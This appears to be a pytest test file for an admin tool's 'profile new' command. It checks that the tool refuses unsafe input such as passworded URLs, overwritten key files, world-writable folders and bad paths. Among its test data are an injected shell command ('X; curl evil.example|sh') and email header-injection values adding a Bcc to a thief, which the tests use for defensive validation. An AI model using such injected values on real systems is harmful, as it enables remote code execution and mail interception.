"""`adminkit profile new` given what a careless or hostile operator types: names that are
not names, URLs that carry a password, a secret file path that is someone else's file."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from adminkit.core.config import load_profile
from adminkit.core.errors import ConfigError
from tests.unit.test_profile_new import answer

FLAGS = ["--no-input", "--no-check", "--directory-kind", "openldap", "--directory-url",
         "ldap1.acme.example", "--bind-user", "cn=svc,dc=acme,dc=example",
         "--bind-password", "env:ACME_BIND"]
ANSWERS = ("", "openldap", "ldap1.acme.example", "", "cn=svc,dc=acme,dc=example")


def test_a_name_ending_in_a_newline_is_not_a_name(cli: Any, env: Any) -> None:
    res = cli("profile", "new", "acme\n", *FLAGS)
    assert res.code == 2 and "is not a profile name" in res.err
    assert list(env.profiles.iterdir()) == []
    (env.profiles / "acme\n.yaml").write_text("description: x\n")
    with pytest.raises(Exception, match="is not a profile name"):
        load_profile("acme\n", env.config)


@pytest.mark.parametrize(("flag", "url"), [
    ("--directory-url", "ldaps://svc:Hunter2-Secret@ldap1.acme.example:636"),
    ("--tickets-url", "https://root:Hunter2-Secret@rt.acme.example/REST/2.0"),
])
def test_a_url_with_a_password_in_it_is_refused_unechoed(cli: Any, env: Any, flag: str,
                                                         url: str) -> None:
    flags = [*FLAGS, "--tickets-kind", "rt", "--tickets-url", "https://rt.acme.example/REST/2.0",
             "--tickets-token", "env:RT"]
    flags[flags.index(flag) + 1] = url
    res = cli("profile", "new", "acme", *flags)
    assert res.code == 2, res.err
    assert f"{flag}: the URL holds a password" in res.err
    assert "Hunter2" not in res.out + res.err
    assert list(env.profiles.iterdir()) == []


def test_values_yaml_treats_as_syntax_load_back_as_given(cli: Any, env: Any) -> None:
    odd = {"--description": "yes", "--base-dn": "dc=a, #x: {y}", "--users-ou": "'\"&*!|>%@`",
           "--bind-user": "null"}
    flags = list(FLAGS)
    for flag, value in odd.items():
        flags += [flag, value]
    assert cli("profile", "new", "acme", *flags).code == 0
    profile = load_profile("acme", env.config)
    d = profile.directory  # type: ignore[attr-defined]
    assert profile.description == "yes"
    assert (d.base_dn, d.users_ou, d.bind_user) == ("dc=a, #x: {y}", "'\"&*!|>%@`", "null")


def test_the_secret_file_asked_for_never_replaces_an_existing_file(env: Any,
                                                                   tmp_path: Path) -> None:
    theirs = tmp_path / "id_ed25519"
    theirs.write_text("PRIVATE KEY\n")
    r = answer({}, *ANSWERS, "Bind-Secret-4711", str(theirs), args=("--store", "file"))
    assert r.returncode == 2, r.stderr
    assert f"{theirs} exists" in r.stderr
    assert theirs.read_text() == "PRIVATE KEY\n"
    assert "Bind-Secret-4711" not in r.stdout + r.stderr
    assert not (env.profiles / "acme.yaml").exists()


@pytest.mark.parametrize("flag", ["--directory-url", "--tickets-url"])
def test_a_url_that_does_not_parse_is_a_usage_error(cli: Any, env: Any, flag: str) -> None:
    flags = [*FLAGS, "--tickets-kind", "rt", "--tickets-url", "https://rt.acme.example/REST/2.0",
             "--tickets-token", "env:RT"]
    flags[flags.index(flag) + 1] = "https://[::1/REST/2.0"
    res = cli("profile", "new", "acme", *flags)
    assert res.code == 2, res.err
    assert f"{flag}: not a URL (Invalid IPv6 URL)" in res.err
    assert list(env.profiles.iterdir()) == []




def test_stopped_halfway_nothing_is_kept(env: Any, tmp_path: Path) -> None:
    """The answers end (as Ctrl-C ends them) after a secret was typed: no profile, and no
    secret left behind in a file or the keyring; an existing profile's secret unchanged."""
    ring = {"PYTHON_KEYRING_BACKEND": "keyrings.alt.file.PlaintextKeyring",
            "XDG_DATA_HOME": str(tmp_path / "data")}
    r = answer(ring, *ANSWERS, "Bind-Secret-4711", "", args=("--store", "file"))
    assert r.returncode == 2 and "--ca-file: no answer (the input ended)" in r.stderr
    assert not (env.profiles / "acme.yaml").exists()
    assert not (env.config / "secrets").exists() or not any((env.config / "secrets").iterdir())

    r = answer(ring, *ANSWERS, "Bind-Secret-4711", "", args=("--store", "keyring"))
    assert r.returncode == 2
    read = subprocess.run([sys.executable, "-c", "import keyring; print(keyring.get_password("
                           "'adminkit', 'acme-directory'))"], capture_output=True, text=True,
                          check=True, env={**os.environ, **ring})
    assert read.stdout == "None\n"

    made = answer(ring, *ANSWERS, "Old-Secret-1", "", "", "", "", "none", "",
                   args=("--store", "file"))
    assert made.returncode == 0, made.stderr
    r = answer(ring, *ANSWERS, "New-Secret-2", "", args=("--store", "file", "--force"))
    assert r.returncode == 2
    assert (env.config / "secrets" / "acme-directory").read_text() == "Old-Secret-1\n"


@pytest.mark.parametrize("folder", ["config", "profiles"])
def test_a_config_folder_others_can_write_is_refused(cli: Any, env: Any, folder: str) -> None:
    """Anyone who can write there can swap the profile for one that sends the service
    account's password to their own server."""
    open_one = getattr(env, folder)
    open_one.chmod(0o777)
    res = cli("profile", "new", "acme", *FLAGS)
    assert res.code == 2, res.err
    assert f"{open_one} is writable by others (mode 777)" in res.err
    assert f"chmod 700 {open_one}" in res.err
    assert not (env.profiles / "acme.yaml").exists()


@pytest.mark.parametrize("name", ["X; curl evil.example|sh", "ACME BIND", "1ST"])
def test_an_environment_variable_name_must_be_one(env: Any, name: str) -> None:
    """The name goes into the `export NAME=...` the operator is told to run."""
    r = answer({}, *ANSWERS, "env", name)
    assert r.returncode == 2, r.stderr
    assert f"--bind-password: {name!r} is not an environment variable name" in r.stderr
    assert "export" not in r.stderr
    assert not (env.profiles / "acme.yaml").exists()


def test_a_given_env_reference_must_name_a_variable(cli: Any, env: Any) -> None:
    flags = [("env:ACME BIND" if f == "env:ACME_BIND" else f) for f in FLAGS]
    res = cli("profile", "new", "acme", *flags)
    assert res.code == 2
    assert "--bind-password: 'ACME BIND' is not an environment variable name" in res.err


def test_a_folder_where_the_profile_goes_is_a_usage_error(cli: Any, env: Any) -> None:
    (env.profiles / "acme.yaml").mkdir()
    res = cli("profile", "new", "acme", *FLAGS, "--force")
    assert res.code == 2, res.err
    assert f"{env.profiles / 'acme.yaml'}: cannot write: Is a directory" in res.err
    assert [p.name for p in env.profiles.iterdir()] == ["acme.yaml"]  # no temporary file left


def test_a_secret_file_below_a_file_is_a_usage_error(env: Any, tmp_path: Path) -> None:
    (tmp_path / "plain").write_text("x\n")
    r = answer({}, *ANSWERS, "Bind-Secret-4711", str(tmp_path / "plain" / "sub" / "secret"),
               "", "", "", "none", "", args=("--store", "file"))
    assert r.returncode == 2, r.stderr
    assert f"{tmp_path / 'plain' / 'sub'}: cannot write: Not a directory" in r.stderr
    assert "Bind-Secret-4711" not in r.stdout + r.stderr
    assert not (env.profiles / "acme.yaml").exists()


@pytest.mark.parametrize("typed", ["Bind-Secret-4711", "keys/bind", "./acme.secret",
                                   "../acme.secret"])
def test_a_secret_file_answered_with_a_relative_path_is_refused_unechoed(
        env: Any, tmp_path: Path, typed: str) -> None:
    """A relative path would land wherever `profile new` happened to run (a secret the
    answers put one question late once became a file in the repository). Refused, and
    not echoed: an answer that is out of step with the questions may be a secret."""
    here = tmp_path / "cwd"
    here.mkdir()
    r = answer({}, *ANSWERS, "Sec-Value-1", typed, "", "", "", "none", "",
               args=("--store", "file"), cwd=here)
    assert r.returncode == 2, r.stderr
    assert "--bind-password: the file needs a full path" in r.stderr
    assert typed not in r.stdout + r.stderr and "Sec-Value-1" not in r.stdout + r.stderr
    assert list(here.iterdir()) == [] and not (tmp_path / "acme.secret").exists()
    assert not (env.profiles / "acme.yaml").exists()


def test_a_secret_file_under_home_or_absolute_is_taken(env: Any, tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    r = answer({"HOME": str(home)}, *ANSWERS, "Sec-Value-1", "~/acme.secret", "", "", "",
               "none", "", args=("--store", "file"), cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    assert (home / "acme.secret").read_text() == "Sec-Value-1\n"
    data = yaml.safe_load((env.profiles / "acme.yaml").read_text())
    assert data["directory"]["password"] == f"file:{home / 'acme.secret'}"


MAIL = ["--mail-host", "smtp.acme.example", "--mail-sender", "adminkit@acme.example"]


@pytest.mark.parametrize(("key", "value", "problem"), [
    ("password_recipient", "l2@acme.example\r\nBcc: thief@evil.example", "line break"),
    ("sender", "adminkit@acme.example\nBcc: thief@evil.example", "line break"),
    ("port", "0", "greater than or equal to 1"),
    ("port", "70000", "less than or equal to 65535"),
])
def test_mail_settings_that_cannot_be_sent_with_are_refused(cli: Any, env: Any, key: str,
                                                            value: str, problem: str) -> None:
    """A line break in an address would add a header (a Bcc to a thief for the mail that
    carries a new password): Python refuses it only once the password is reset."""
    flag = "--mail-port" if key == "port" else "--" + key.replace("_", "-")
    if key == "sender":
        flag = "--mail-sender"
    res = cli("profile", "new", "acme", *FLAGS, *MAIL, flag, value)
    assert res.code == 2, res.err
    assert problem in res.err
    assert not (env.profiles / "acme.yaml").exists()
    mail = {"host": "smtp.acme.example", "sender": "adminkit@acme.example",
            key: int(value) if key == "port" else value}
    (env.profiles / "acme.yaml").write_text(yaml.safe_dump({"mail": mail}))
    with pytest.raises(ConfigError, match=problem):
        load_profile("acme", env.config)
